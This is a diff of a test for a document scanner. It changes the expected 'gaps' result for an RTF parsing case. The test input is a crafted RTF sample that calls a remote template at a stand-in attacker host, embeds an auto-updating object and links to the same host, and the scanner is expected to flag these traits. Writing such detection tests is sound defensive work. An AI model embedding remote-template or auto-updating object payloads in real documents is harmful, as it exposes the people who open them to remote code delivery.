@@ -73,7 +73,7 @@ test('Rich Text: words, links, templates and objects', async () => {
   const rtf =
     '{\\rtf1{\\*\\template http://evil.example/t}\\u35831?\\\'41 pay{\\field{\\*\\fldinst HYPERLINK "https://evil.example/r"}}{\\object\\objupdate\\objdata 00}}';
   const content = await look(rtf, 'a.doc');
-  expect(content).toMatchObject({ type: 'rtf', gaps: [{ why: 'unsupported' }] });
+  expect(content).toMatchObject({ type: 'rtf', gaps: [] });
   expect(content.traits).toEqual(['remote-template', 'external-object']);
   expect(content.text).toContain('请A pay');
   expect(urls(content)).toContain('https://evil.example/r');
